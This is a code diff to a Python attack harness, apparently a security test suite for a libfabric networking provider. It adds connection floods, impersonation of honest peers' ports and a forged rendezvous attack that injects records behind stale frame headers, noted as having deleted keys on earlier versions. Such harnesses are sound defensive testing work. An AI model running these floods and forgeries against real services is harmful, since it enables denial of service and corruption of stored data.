@@ -19,6 +19,7 @@ PLACES = {
     "neighbour": "an honest client's host, another port",
     "twin": "an honest client's host, claiming the port that it announced",
 }
+FRAME_HEADERS = (40, 32)  # of KVRail's frames now, and of those before they had a MAC
 WILD = (0x7FFFFFFF, 0xFFFFFFFF, 5000, 1 << 40, (1 << 64) - 1)
 
 
@@ -29,17 +30,31 @@ class Attacker:
         self.world, self.target, self.place, self.rng, self.short = world, target, place, rng, short
         self.fmt = f.FORMATS[world.provider]
         self.process = getattr(world, target)
-        self.ports = world.ports(target)
-        self.claims = world.ports("server" if target != "server" else "honest")
+        self.ports, self.claims = [], []
+        self.look()
         self.source = STRANGER if place == "stranger" else HOME
         self.lines, self.stop, self.threads = [], threading.Event(), []
         self.greeted = self.accepted = self.refused = 0
+        self.silences = world.silences.setdefault((target, place), [0])  # greetings in a row that were not answered
+        self.end = time.monotonic() + (1.5 if short else 40)
         self.watched = []
+
+    def look(self):
+        """Where the target listens, and where its peers do."""
+        try:
+            self.ports = self.world.ports(self.target) or self.ports
+            self.claims = self.world.ports("server" if self.target != "server" else "honest") or self.claims
+        except OSError:
+            pass
 
     def line(self, port, keep=True, wait=1.0):
         """A connection, or None when the door does not open."""
         try:
             line = Line(self.source, port, wait)
+        except ConnectionRefusedError:  # the endpoint was rebuilt: it listens elsewhere now
+            self.refused += 1
+            self.look()
+            return None
         except OSError:
             self.refused += 1
             return None
@@ -47,34 +62,43 @@ class Attacker:
             self.lines.append(line)
         return line
 
+    def patience(self):
+        return 1.0 if self.silences[0] < 2 else 0.01 if self.short else 0.03
+
     def claim(self):
         return self.rng.choice(self.claims) if self.place == "twin" and self.claims else self.rng.randrange(1024, 65536)
 
-    def greet(self, port, keep=True, behind=b"", order=1, wait=1.0, **greeting):
-        """Connect and ask as a client does. Returns the line and the index by which packets name the connection: None when it was not accepted."""
-        line = self.line(port, keep, wait)
+    def floods(self, n):
+        """Turns of a flood: n, or fewer when its time is over or the door has not opened three times in a row."""
+        shut = 0
+        for i in range(n):
+            was = self.refused
+            yield i
+            shut = shut + 1 if self.refused > was else 0
+            if shut == 3 or time.monotonic() > self.end or self.process.p.poll() is not None:
+                return
+
+    def greet(self, port, keep=True, behind=b"", order=1, claim=None, **greeting):
+        """Connect and ask as a client does. Returns the line and the index by which packets name the connection: None when it was not accepted. A door that lets
+        one wait has a second to answer; after two that were silent, so much less that a flood is one."""
+        line = self.line(port, keep, self.patience())
         if not line:
             return None, None
         self.greeted += 1
         greeting.setdefault("pid", self.rng.randrange(2, 1 << 22))
-        line.send(f.ctrl(f.CONNREQ, self.fmt.greeting(self.claim(), **greeting), order=order) + behind)
+        line.send(f.ctrl(f.CONNREQ, self.fmt.greeting(self.claim() if claim is None else claim, **greeting), order=order) + behind)
         answer = line.read(f.CTRL_BYTES)
+        self.silences[0] += line.silent
         if len(answer) < f.CTRL_BYTES or answer[1] != f.CONNRESP:
             return line, None
-        self.accepted += 1
+        self.accepted, self.silences[0] = self.accepted + 1, 0
+        line.s.settimeout(1.0)
         return line, self.fmt.accepted(line.read(struct.unpack_from(">H", answer, 2)[0]))
 
-    def many(self, n, port_of=None, wait=0.5):
+    def many(self, n, wait=0.5):
         """n bare connections, fewer when the door does not open three times in a row."""
-        out, shut = [], 0
-        for i in range(n):
-            line = self.line(port_of(i) if port_of else self.ports[i % len(self.ports)], wait=wait)
-            shut = 0 if line else shut + 1
-            if shut == 3:
-                break
-            if line:
-                out.append(line)
-        return out
+        lines = (self.line(self.ports[i % len(self.ports)], wait=wait) for i in self.floods(n))
+        return [line for line in lines if line]
 
     def grown(self, mib=512):
         """The target is harmed enough: the rest would only cost the machine."""
@@ -255,7 +279,7 @@ def atomics(a, conn):
 
 def not_a_frame(a, conn):
     """Whole and well formed, for the provider: noise, empty, and what looks like a frame of a session that is not."""
-    frame = struct.pack("<HBBI", 0x524B, 1, 1, 65536) + bytes(16) + struct.pack("<HBBI", 56, 0, 0, 0) + struct.pack("<BBHIQQ", 9, 0, 24, 1 << 31, 1, 5)
+    frame = struct.pack("<HBBI", 0x524B, 2, 0, 65536) + bytes(16) + struct.pack("<HBBIQ", 64, 1, 0, 0, 1 << 20) + struct.pack("<BBHIQQ", 9, 0, 24, 1 << 31, 1, 5)
     return [b"".join(eager(a, conn, b) for b in (frame, b"", b"\x99" * 4096, b"\x00" * 32, frame[:31])) * 3]
 
 
@@ -327,10 +351,7 @@ def request_port_zero(a):
     """Claims that no endpoint can have, and the target's own."""
     for port in a.ports:
         for claim in (0, port, a.world.control, 65535):
-            line = a.line(port)
-            if line:
-                line.send(f.ctrl(data=a.fmt.greeting(claim, pid=77)))
-                line.read(64)
+            a.greet(port, pid=77, claim=claim)
 
 
 # ---- connections that are held ----
@@ -383,13 +404,9 @@ def half_message(a):
 
 
 def accepted_many(a):
-    """Whole requests, and then nothing: every one is an endpoint."""
-    shut = 0
-    for i in range(150 if a.short else 600):
-        _, conn = a.greet(a.ports[i % len(a.ports)], wait=0.5)
-        shut = shut + 1 if conn is None else 0
-        if shut == 8:
-            return
+    """Whole requests, and then nothing: every one is an endpoint, or waits at the door."""
+    for i in a.floods(150 if a.short else 600):
+        a.greet(a.ports[i % len(a.ports)])
 
 
 # ---- floods ----
@@ -415,57 +432,44 @@ def rendezvous_large(a):
 
 def partial_many(a):
     """Half an eager message, then the connection ends."""
-    for port in a.ports:
-        shut = 0
-        for _ in range(1100):
-            line, conn = a.greet(port, keep=False, wait=0.5)
-            if line:
-                if conn is not None:
-                    line.send(a.fmt.message(b"\x35" * 4000, conn=conn)[:2000])
-                line.close(reset=True)
-            shut = shut + 1 if conn is None else 0
-            if shut == 8:
-                break
+    for i in a.floods(1100 * len(a.ports)):
+        line, conn = a.greet(a.ports[i % len(a.ports)], keep=False)
+        if line:
+            line.send(a.fmt.message(b"\x35" * 4000, conn=conn or 0)[:2000])
+            line.close(reset=True)
 
 
 def short_many(a):
-    """Connect requests whose sender is gone before the answer."""
-    shut = 0
-    for i in range(3000):
+    """Connect requests whose sender is gone before the answer, one at a time and in swarms."""
+    swarm = []
+    for i in a.floods(3000):
         line = a.line(a.ports[i % len(a.ports)], keep=False, wait=0.5)
         if line:
             line.send(f.ctrl(data=a.fmt.greeting(a.claim(), pid=i + 2)))
-            line.close(reset=i % 2 == 0)
-        shut = 0 if line else shut + 1
-        if shut == 3:
-            return
+            swarm.append(line)
+        if len(swarm) >= (1 if i % 1000 < 500 else 100):
+            while swarm:
+                swarm.pop().close(reset=i % 2 == 0)
+    while swarm:
+        swarm.pop().close()
 
 
 def visits_many(a):
     """Whole visits: a request, its answer, something of a message, and gone."""
-    shut = 0
     says = (b"", f.base()[:9], f.base(size=16 + 64 + 40), a.fmt.message(b"\x36" * 40), f.base(size=16 + 64 + 4096) + bytes(64))
-    for i in range(300 if a.short else 3000):
-        line, conn = a.greet(a.ports[i % len(a.ports)], keep=False, wait=0.5)
+    for i in a.floods(300 if a.short else 3000):
+        line, _ = a.greet(a.ports[i % len(a.ports)], keep=False)
         if line:
-            if conn is not None:
-                line.send(says[i // len(a.ports) % len(says)])
+            line.send(says[i // len(a.ports) % len(says)])
             line.close(reset=i % 3 == 0)
-        shut = shut + 1 if conn is None else 0
-        if shut == 8:
-            return
 
 
 def bare_many(a):
     """Connections that end without a byte."""
-    shut = 0
-    for i in range(3000):
+    for i in a.floods(3000):
         line = a.line(a.ports[i % len(a.ports)], keep=False, wait=0.5)
         if line:
             line.close(reset=i % 2 == 0)
-        shut = 0 if line else shut + 1
-        if shut == 3:
-            return
 
 
 def read_requests(a):
@@ -481,13 +485,13 @@ def read_requests(a):
 
 
 def immediates_many(a):
-    """A queue of completions that is filled with immediates."""
-    one = b"".join(f.base(f.OP_WRITE, extra=cq(i), flags=f.REMOTE_CQ_DATA) for i in range(4096))
+    """The same guesses again and again: some will be of a GET that is on its way. They also fill the queue of completions."""
+    guesses = immediates_without_key(a, 0)[0]
     for port in a.ports:
         line, conn = a.greet(port)
-        for _ in range(0 if conn is None else 20 if a.short else 200):
-            if not line.send(one) or a.grown():
-                break
+        limit = time.monotonic() + (1 if a.short else 3)
+        while conn is not None and time.monotonic() < limit and line.send(guesses) and not a.grown():
+            pass
 
 
 # ---- an honest client's name ----
@@ -496,13 +500,8 @@ def take_place(a):
     """Claim an honest peer's port: libfabric believes it, closes the true connection, and sends what is meant for the peer here."""
     for port in a.ports:
         for claim in a.claims or [9]:
-            line = a.line(port)
-            if not line:
-                continue
-            line.send(f.ctrl(data=a.fmt.greeting(claim, pid=a.rng.randrange(2, 1 << 22))))
-            answer = line.read(f.CTRL_BYTES)
-            if len(answer) == f.CTRL_BYTES:
-                line.read(struct.unpack_from(">H", answer, 2)[0])
+            line, conn = a.greet(port, claim=claim)
+            if conn is not None:
                 a.watched.append(line)
 
 
@@ -535,24 +534,29 @@ def read_base(line):
 
 def forged(a):
     """A rendezvous of two parts, of which the first is answered with nothing: the receive buffer keeps an old frame's header with a session and what proves it, and
-    gets the attacker's records behind it. Found on 1.17 and 2.1: keys were deleted, bytes stored."""
+    gets the attacker's records behind it. Where the second is empty too, the old frame comes again. Found on 1.17 and 2.1: keys were deleted, bytes stored."""
     limit = time.monotonic() + 5
-    while a.world.counts[0] < 4000 and time.monotonic() < limit:
+    while a.world.counts[0] < (2000 if a.short else 4000) and time.monotonic() < limit:
         time.sleep(0.1)  # every posted buffer has held a frame
     for port in a.ports:
         line, conn = a.greet(port)
         for n in range(0 if conn is None else 40 if a.short else 160):
             for data in forged_records(n):
-                body = f.rndv_body([(0x1000, 32, 1), (0x2000, len(data), 1)])
-                if not line.send(f.base(body=f.packet(f.RNDV_REQ, body, conn=conn, msg_id=n, size=32 + len(data)))):
-                    return
-                asked = 0
-                while asked < 2:
-                    got = read_base(line)
-                    if not got:
+                for head in FRAME_HEADERS:
+                    if not forge(a, line, conn, head, data, replay=n % 4 == 3):
                         return
-                    asked += got[0] == f.OP_READ_REQ
-                line.send(f.base(f.OP_READ_RSP) + f.base(f.OP_READ_RSP, data))
+
+
+def forge(a, line, conn, head, data, replay):
+    body = f.rndv_body([(0x1000, head, 1), (0x2000, len(data), 1)])
+    line.send(f.base(body=f.packet(f.RNDV_REQ, body, conn=conn, msg_id=head, size=head + len(data))))
+    asked = 0
+    while asked < 2:
+        got = read_base(line)
+        if not got:
+            return False
+        asked += got[0] == f.OP_READ_REQ
+    return line.send(f.base(f.OP_READ_RSP) + f.base(f.OP_READ_RSP, b"" if replay else data))
 
 
 # ---- the table ----
